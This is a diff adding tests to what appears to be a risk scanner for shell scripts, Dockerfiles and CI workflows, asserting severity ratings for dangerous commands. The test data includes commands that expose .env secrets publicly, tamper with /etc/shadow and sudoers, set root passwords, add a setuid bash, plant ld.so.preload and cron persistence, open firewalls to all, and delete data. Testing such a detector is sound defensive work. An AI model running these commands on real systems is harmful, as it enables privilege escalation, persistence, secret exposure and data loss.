@@ -14,6 +14,7 @@ const weigh = async (path: string, after: string, before: string | null = null):
     .map((f) => f.tier)
     .join(' ');
 const shell = (text: string, path = 'scripts/run.sh'): Promise<string> => weigh(path, `#!/bin/bash\n${text}\n`);
+const layer = (command: string): Promise<string> => weigh('Dockerfile', `FROM debian:12\nRUN ${command}\nUSER app\n`);
 const jobs = (...all: readonly string[]): Promise<string> =>
   weigh('.github/workflows/a.yml', `on: push\npermissions: {}\njobs:\n${all.join('')}`);
 const job = (name: string, run: string, more = '', runner = 'ubuntu-24.04'): string =>
@@ -78,4 +79,75 @@ test('of what is deleted in a cloud the object has to be of the run', async () =
   const made = 'R=$(terraform output -raw region)';
   const gone = (name: string): string => `aws rds delete-db-instance --region "$R" --db-instance-identifier ${name}`;
   assert.equal(await shell(`${made}\n${gone('shop')}`), 'critical');
+});
+
+test('a secret is handed on to nowhere that others can read', async () => {
+  assert.equal(await shell('cp .env backend/.env'), '');
+  for (const place of ['public', '/var/www', 'wwwroot/', 'public/env.txt'])
+    assert.equal(await shell(`cp .env ${place}`), 'high');
+  assert.equal(await shell('cat .env > public/env.txt'), 'high');
+  assert.equal(await shell('cp .env build/'), 'medium');
+});
+
+test('a branch that others work on is none of the script, whoever makes its name', async () => {
+  const push = (name: string): Promise<string> =>
+    jobs(
+      job(
+        'a',
+        `|\n          B=${name}\n          git checkout -b "$B" origin/main\n          git push --force origin "$B"`,
+      ),
+    );
+  assert.equal(await push('pick-1'), 'medium');
+  for (const name of ['production', 'release-1.0', 'live', 'staging']) assert.equal(await push(name), 'high');
+});
+
+test('files and places that decide who gets in are no files like others', async () => {
+  for (const path of ['/etc/sudoers', '/etc/shadow', '/usr/local/bin', '/usr/bin/sudo'])
+    assert.equal(await shell(`chown app ${path}`), 'critical');
+  assert.equal(await shell('chmod 666 /etc/shadow'), 'high');
+  assert.equal(await layer('chown -R app /etc'), 'medium');
+  assert.equal(await layer('echo a:b | chpasswd'), 'medium');
+  assert.equal(await layer('echo root:root | chpasswd'), 'high');
+  assert.equal(await shell('echo root:root | chpasswd'), 'critical');
+  assert.equal(await layer('chmod u+s /bin/bash'), 'high');
+  assert.equal(await layer('echo /a.so > /etc/ld.so.preload'), 'high');
+  assert.equal(await layer('echo "* * * * * root curl -s a.example/a -o /a" > /etc/cron.d/a'), 'high');
+  assert.equal(await shell('userdel -r ann'), 'high');
+  assert.equal(await weigh('a.ps1', 'Add-LocalGroupMember -Group "Administrators" -Member ann\n'), 'high');
+});
+
+test('a script beside an image runs within only if it needs nothing of the host', async () => {
+  const cron = 'echo "0 1 * * * app /a" > /etc/cron.d/a';
+  assert.equal(await shell(cron, 'docker/a.sh'), 'medium');
+  assert.equal(await shell(`docker run -d a/b\n${cron}`, 'docker/a.sh'), 'high');
+  assert.equal(await shell(cron, 'docker/host.sh'), 'high');
+  assert.equal(await shell('rm -rf /srv/shop/orders', 'docker/a.sh'), 'high');
+});
+
+test('doors and rights in a cloud are opened for all that it holds', async () => {
+  assert.equal(
+    await shell('aws ec2 authorize-security-group-ingress --group-id "$G" --port 22 --cidr 0.0.0.0/0'),
+    'high',
+  );
+  assert.equal(
+    await shell('gcloud compute firewall-rules create a --network $N --source-ranges 0.0.0.0/0'),
+    'critical',
+  );
+});
+
+test('state, sources and what a folder of a like name holds are no output', async () => {
+  assert.equal(await shell('rm -rf build dist'), '');
+  assert.equal(await shell('rm -rf terraform.tfstate'), 'medium');
+  assert.equal(await shell('rm -rf public'), 'medium');
+  assert.equal(await shell('rm -rf {build,data}'), 'high');
+  assert.equal(await shell('rm -rf build \\\n  data/orders'), 'high');
+  assert.equal(await shell('git checkout -- ./'), 'high');
+  assert.equal(await shell('git config core.hooksPath no-hooks'), 'critical');
+});
+
+test('the same command on what is in use is another one', async () => {
+  const script = (name: string): string => `#!/bin/bash\nrm -rf "/srv/shop/data/${name}"\n`;
+  assert.equal(await weigh('a.sh', script('users'), script('orders')), 'critical');
+  assert.equal(await weigh('a.sh', script('old_orders'), script('orders')), '');
+  assert.equal(await weigh('a.sh', script('prod_orders'), script('orders')), 'critical');
 });
